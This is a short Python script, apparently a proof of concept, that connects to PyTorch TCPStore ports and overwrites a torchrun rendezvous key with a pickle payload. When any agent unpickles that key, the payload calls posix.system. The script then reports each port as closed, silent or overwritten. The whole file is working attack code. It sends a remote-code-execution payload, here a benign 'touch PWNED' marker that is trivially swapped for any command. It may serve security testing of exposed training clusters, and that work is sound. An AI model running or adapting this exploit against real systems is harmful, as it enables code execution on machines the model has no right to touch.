"""What a stranger tries on ports of a run: torch's own TCPStore messages by hand, as they are; nothing is imported.

`python intruder.py HOST PORT ...` prints, as JSON, what each port was good for: closed, silent, or overwritten.
"""

from __future__ import annotations

import json
import socket
import struct
import sys

KEY = "torch.rendezvous.lowcomm"
"""The key that an agent of torchrun's c10d rendezvous unpickles."""
VALUE = b"cposix\nsystem\n(S'touch PWNED'\ntR."
_VALIDATE, _SET, _GET = struct.pack("<BI", 0, 0x3C85F7CE), b"\x01", b"\x03"


def overwrite(host: str, port: int, timeout_s: float = 1.0) -> str:
    """Write the key and read it again."""
    name = struct.pack("<Q", len(KEY) + 1) + b"/" + KEY.encode()
    try:
        with socket.create_connection((host, port), timeout=timeout_s) as connection:
            connection.sendall(_VALIDATE + _SET + name + struct.pack("<Q", len(VALUE)) + VALUE + _GET + name)
            came = b""
            while len(came) < 1 << 12 and (part := connection.recv(1 << 12)):
                came += part
                if came.endswith(VALUE):
                    return "overwritten"
    except ConnectionError:
        return "closed"
    except OSError:
        return "silent"
    return "closed"


if __name__ == "__main__":
    print(json.dumps({int(port): overwrite(sys.argv[1], int(port)) for port in sys.argv[2:]}))
